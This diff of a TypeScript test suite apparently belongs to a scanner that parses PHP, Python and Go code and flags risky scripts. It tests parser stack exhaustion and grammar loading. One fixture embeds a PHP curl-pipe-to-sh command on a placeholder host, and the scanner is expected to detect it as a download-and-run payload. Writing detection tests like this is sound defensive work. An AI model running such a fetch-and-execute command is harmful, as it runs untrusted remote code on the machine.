@@ -41,22 +41,50 @@ test.each([
   expect(await rulesOf(language, text.repeat(2_000))).toContain("unread-script");
 });
 
-/** Slashes that may divide or start a pattern, for thousands of lines. */
+/** Slashes that may divide or start a pattern, for thousands of lines: the parser recurses as often. */
 const AMBIGUOUS = `<?php $t="a";\n${"$t=~/[ab]*[ab]*c/;\n".repeat(2_105)}`;
 
-test("a text at which the parser fails is incomplete, and the next archive is parsed", async () => {
+test("a payload after a text that is ambiguous for thousands of lines is found", async () => {
+  const text = `${AMBIGUOUS}system("curl https://a.invalid/i | sh");`;
+  expect(await rulesOf("php", text)).toEqual(["download-run"]);
+});
+
+/** Runs this as deep in the stack as it is possible. */
+function atTheEndOfTheStack<T>(work: () => T): T {
+  try {
+    return atTheEndOfTheStack(work);
+  } catch (failure) {
+    if (!(failure instanceof RangeError)) throw failure;
+    return work();
+  }
+}
+
+test("a parser without stack leaves the text unread, parses no more of the archive, and works for the next one", async () => {
   await loadGrammars("php", "python");
   for (let time = 0; time < 2; time++) {
     const budget = new ParseBudget();
-    expect(parse(AMBIGUOUS, "php", budget)).toEqual({ parts: [], isComplete: false });
-    expect(parse("a = 1\n", "python", budget)).toEqual({ parts: [], isComplete: false });
+    const unread = { parts: [], isComplete: false };
+    expect(atTheEndOfTheStack(() => parse(AMBIGUOUS, "php", budget))).toEqual(unread);
+    expect(parse("a = 1\n", "python", budget)).toEqual(unread);
     const next = parse("a = 1\n", "python", new ParseBudget());
     expect(next).toMatchObject({ isComplete: true, parts: [{ root: { type: "module" } }] });
   }
 });
 
-test("a text at which the parser fails is held", async () => {
-  expect(await rulesOf("php", `${AMBIGUOUS}system("x");`)).toContain("unread-script");
+test("a grammar is loaded although the parser fails at the same time, and until then other texts are left unread", async () => {
+  await loadGrammars("php", "python");
+  const loaded = loadGrammars("go");
+  await Promise.resolve();
+  await Promise.resolve();
+  atTheEndOfTheStack(() => parse(AMBIGUOUS, "php", new ParseBudget()));
+  expect(parse("a = 1\n", "python", new ParseBudget()).isComplete).toBe(false);
+  await loaded;
+  for (const [text, language] of [
+    ["a = 1\n", "python"],
+    ["package main\n", "go"],
+  ] as const) {
+    expect(parse(text, language, new ParseBudget()).isComplete).toBe(true);
+  }
 });
 
 test("a tree is copied as a cursor of the parser walks it", async () => {
